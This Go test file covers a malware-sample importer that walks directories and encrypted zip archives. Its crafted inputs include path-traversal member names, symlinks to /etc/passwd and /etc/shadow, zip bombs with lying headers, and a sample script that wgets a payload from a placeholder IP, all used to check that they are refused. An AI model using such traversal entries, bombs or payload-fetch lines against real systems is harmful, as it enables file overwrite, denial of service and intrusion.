package sampleimport

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha1"
	"encoding/binary"
	"hash/crc32"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

type result struct {
	found   map[string][]byte
	refused []Refusal
}

func walk(t *testing.T, opt Options, paths ...string) result {
	t.Helper()
	r := result{found: map[string][]byte{}}
	var err error
	r.refused, err = Walk(paths, opt, func(f Found) error {
		r.found[f.Name] = f.Content
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func (r result) refusedFor(suffix string) string {
	for _, x := range r.refused {
		if strings.HasSuffix(x.Name, suffix) {
			return x.Reason
		}
	}
	return ""
}

func deflate(b []byte) []byte {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestCompression)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

// zipCryptoMember returns the raw bytes of a ZipCrypto member.
func zipCryptoMember(password string, plain []byte, crc uint32) []byte {
	z := newZipCrypto(password)
	hdr := make([]byte, 12)
	rand.Read(hdr[:11])
	hdr[11] = byte(crc >> 24)
	out := append(hdr, deflate(plain)...)
	z.encrypt(out)
	return out
}

// aesMember returns the raw bytes of a WinZip AES-256 member.
func aesMember(password string, plain []byte) []byte {
	salt := make([]byte, 16)
	rand.Read(salt)
	aesKey, macKey, verifier, err := winzipKeys(password, salt, 32)
	if err != nil {
		panic(err)
	}
	enc := deflate(plain)
	if err := winzipCTR(aesKey, enc); err != nil {
		panic(err)
	}
	h := hmac.New(sha1.New, macKey)
	h.Write(enc)
	out := append(append(salt, verifier...), enc...)
	return append(out, h.Sum(nil)[:10]...)
}

type member struct {
	name    string
	content []byte
	mode    fs.FileMode
	crypt   string // "", "zipcrypto", "aes"
	pass    string
	raw     []byte // written as is, with the sizes below
	usize   uint64
}

func writeZip(t *testing.T, path string, ms []member) {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range ms {
		h := &zip.FileHeader{Name: m.name, Method: zip.Deflate, Modified: time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC)}
		if m.mode != 0 {
			h.SetMode(m.mode)
		}
		pass := m.pass
		if pass == "" {
			pass = DefaultPassword
		}
		crc := crc32.ChecksumIEEE(m.content)
		switch {
		case m.raw != nil:
			h.CRC32, h.CompressedSize64, h.UncompressedSize64 = crc, uint64(len(m.raw)), m.usize
			w, err := zw.CreateRaw(h)
			if err != nil {
				t.Fatal(err)
			}
			w.Write(m.raw)
		case m.crypt == "zipcrypto":
			raw := zipCryptoMember(pass, m.content, crc)
			h.Flags |= 1
			h.CRC32, h.CompressedSize64, h.UncompressedSize64 = crc, uint64(len(raw)), uint64(len(m.content))
			w, err := zw.CreateRaw(h)
			if err != nil {
				t.Fatal(err)
			}
			w.Write(raw)
		case m.crypt == "aes":
			raw := aesMember(pass, m.content)
			h.Flags |= 1
			h.Method = methodAES
			ex := make([]byte, 11)
			binary.LittleEndian.PutUint16(ex, 0x9901)
			binary.LittleEndian.PutUint16(ex[2:], 7)
			binary.LittleEndian.PutUint16(ex[4:], 2) // AE-2: no CRC
			copy(ex[6:], "AE")
			ex[8] = 3
			binary.LittleEndian.PutUint16(ex[9:], zip.Deflate)
			h.Extra = ex
			h.CRC32, h.CompressedSize64, h.UncompressedSize64 = 0, uint64(len(raw)), uint64(len(m.content))
			w, err := zw.CreateRaw(h)
			if err != nil {
				t.Fatal(err)
			}
			w.Write(raw)
		default:
			w, err := zw.CreateHeader(h)
			if err != nil {
				t.Fatal(err)
			}
			w.Write(m.content)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
}

var elf = append([]byte("\x7fELF\x01\x01\x01"), bytes.Repeat([]byte("sample body "), 100)...)

func TestFilesAndDirectories(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "d", "sub"), 0o700)
	os.WriteFile(filepath.Join(dir, "d", "a.bin"), elf, 0o600)
	os.WriteFile(filepath.Join(dir, "d", "sub", "b.sh"), []byte("#!/bin/sh\necho hi\n"), 0o600)
	os.WriteFile(filepath.Join(dir, "d", "empty"), nil, 0o600)
	os.WriteFile(filepath.Join(dir, "d", "big"), make([]byte, 2000), 0o600)
	os.Symlink("/etc/passwd", filepath.Join(dir, "d", "link"))
	os.Symlink(filepath.Join(dir, "d"), filepath.Join(dir, "dirlink"))
	r := walk(t, Options{MaxSize: 1500}, filepath.Join(dir, "d"), filepath.Join(dir, "dirlink"), filepath.Join(dir, "missing"))
	if len(r.found) != 2 || !bytes.Equal(r.found[filepath.Join(dir, "d", "a.bin")], elf) {
		t.Fatalf("found %v", slices.Collect(mapsKeys(r.found)))
	}
	for suffix, want := range map[string]string{
		"link": "symbolic link", "dirlink": "symbolic link", "empty": "empty", "big": "over the sample size bound", "missing": "no such file",
	} {
		if got := r.refusedFor(suffix); !strings.Contains(got, want) {
			t.Errorf("%s: %q, want %q", suffix, got, want)
		}
	}
}

func mapsKeys(m map[string][]byte) func(func(string) bool) {
	return func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

func TestZip(t *testing.T) {
	dir := t.TempDir()
	z := filepath.Join(dir, "s.zip")
	other := []byte("#!/bin/sh\nwget http://198.51.100.7/x\n")
	writeZip(t, z, []member{
		{name: "bins/", mode: fs.ModeDir | 0o755},
		{name: "bins/plain.arm", content: elf},
		{name: "bins/crypt.mips", content: other, crypt: "zipcrypto"},
		{name: "bins/aes.x86", content: append(elf, 'x'), crypt: "aes"},
		{name: "bins/wrong.zc", content: elf, crypt: "zipcrypto", pass: "nope"},
		{name: "bins/wrong.aes", content: elf, crypt: "aes", pass: "nope"},
		{name: "../../etc/cron.d/x", content: elf},
		{name: "/etc/passwd", content: elf},
		{name: `..\..\win.ini`, content: elf},
		{name: "link", content: []byte("/etc/shadow"), mode: fs.ModeSymlink | 0o777},
		{name: "inner.zip", content: []byte("PK\x05\x06")},
	})
	r := walk(t, Options{}, z)
	want := map[string][]byte{z + ":bins/plain.arm": elf, z + ":bins/crypt.mips": other, z + ":bins/aes.x86": append(elf, 'x')}
	if len(r.found) != len(want) {
		t.Errorf("found %d: %v", len(r.found), slices.Collect(mapsKeys(r.found)))
	}
	for k, v := range want {
		if !bytes.Equal(r.found[k], v) {
			t.Errorf("%s: %d bytes", k, len(r.found[k]))
		}
	}
	for suffix, reason := range map[string]string{
		"wrong.zc": "password", "wrong.aes": "password", "cron.d/x": "path traversal", "/etc/passwd": "path traversal",
		`win.ini`: "path traversal", ":link": "symbolic link", "inner.zip": "nested archive",
	} {
		if got := r.refusedFor(suffix); !strings.Contains(got, reason) {
			t.Errorf("%s: %q, want %q (refused: %v)", suffix, got, reason, r.refused)
		}
	}
	// Another password opens the member only that password fits.
	r = walk(t, Options{Password: "nope"}, z)
	if _, ok := r.found[z+":bins/wrong.zc"]; !ok {
		t.Errorf("--password: %v", r.refused)
	}
	if _, ok := r.found[z+":bins/wrong.aes"]; !ok {
		t.Errorf("--password aes: %v", r.refused)
	}
}

// TestZipCryptoInterop reads an archive the Info-ZIP zip command
// encrypted, when it is installed.
func TestZipCryptoInterop(t *testing.T) {
	zipCmd, err := exec.LookPath("zip")
	if err != nil {
		t.Skip("no zip command")
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "m.bin"), elf, 0o600)
	out := filepath.Join(dir, "m.zip")
	cmd := exec.Command(zipCmd, "-q", "-P", "infected", out, "m.bin")
	cmd.Dir = dir
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, msg)
	}
	r := walk(t, Options{}, out)
	if !bytes.Equal(r.found[out+":m.bin"], elf) {
		t.Fatalf("found %v refused %v", slices.Collect(mapsKeys(r.found)), r.refused)
	}
	r = walk(t, Options{Password: "other"}, out)
	if len(r.found) != 0 || !strings.Contains(r.refusedFor("m.bin"), "password") {
		t.Errorf("wrong password: %v %v", slices.Collect(mapsKeys(r.found)), r.refused)
	}
}

func TestZipBombs(t *testing.T) {
	dir := t.TempDir()
	zeros := make([]byte, 8<<20)
	// Honest headers: over the size bound, or a ratio of thousands to one.
	z1 := filepath.Join(dir, "bomb1.zip")
	writeZip(t, z1, []member{{name: "zeros", content: zeros}})
	r := walk(t, Options{MaxSize: 1 << 20}, z1)
	if len(r.found) != 0 || !strings.Contains(r.refusedFor("zeros"), "over the sample size bound") {
		t.Errorf("honest: %v", r.refused)
	}
	r = walk(t, Options{}, z1)
	if len(r.found) != 0 || !strings.Contains(r.refusedFor("zeros"), "ratio") {
		t.Errorf("ratio: %v", r.refused)
	}
	// Lying headers: 8 MiB of zeros declared as 100 bytes.
	z2 := filepath.Join(dir, "bomb2.zip")
	writeZip(t, z2, []member{{name: "liar", content: zeros, raw: deflate(zeros), usize: 100}})
	r = walk(t, Options{}, z2)
	if len(r.found) != 0 || r.refusedFor("liar") == "" {
		t.Errorf("lying: found %d, %v", len(r.found), r.refused)
	}
	// The same lie, encrypted.
	z3 := filepath.Join(dir, "bomb3.zip")
	writeZip(t, z3, []member{{name: "liar", content: zeros, crypt: "zipcrypto"}})
	r = walk(t, Options{MaxSize: 1 << 20, MaxRatio: 1 << 40}, z3)
	if len(r.found) != 0 || !strings.Contains(r.refusedFor("liar"), "over the sample size bound") {
		t.Errorf("encrypted: %v", r.refused)
	}
	// The archive's total.
	z4 := filepath.Join(dir, "many.zip")
	var ms []member
	for i := range 10 {
		ms = append(ms, member{name: "m" + string(rune('0'+i)), content: append(bytes.Clone(elf), byte(i))})
	}
	writeZip(t, z4, ms)
	r = walk(t, Options{MaxTotal: int64(3*len(elf) + 10)}, z4)
	if len(r.found) != 3 || !strings.Contains(r.refusedFor("many.zip"), "the rest of the archive is not read") {
		t.Errorf("total: %d found, %v", len(r.found), r.refused)
	}
	r = walk(t, Options{MaxEntries: 5}, z4)
	if len(r.found) != 0 || !strings.Contains(r.refusedFor("many.zip"), "members") {
		t.Errorf("entries: %v", r.refused)
	}
}

func FuzzArchive(f *testing.F) {
	dir := f.TempDir()
	p := filepath.Join(dir, "seed.zip")
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("a")
	w.Write(elf)
	zw.Close()
	f.Add(buf.Bytes())
	f.Fuzz(func(t *testing.T, b []byte) {
		if len(b) > 1<<16 {
			return
		}
		os.WriteFile(p, b, 0o600)
		Walk([]string{p}, Options{MaxSize: 1 << 16, MaxTotal: 1 << 18}, func(f Found) error {
			if int64(len(f.Content)) > 1<<16 {
				t.Fatal("over the bound")
			}
			return nil
		})
	})
}
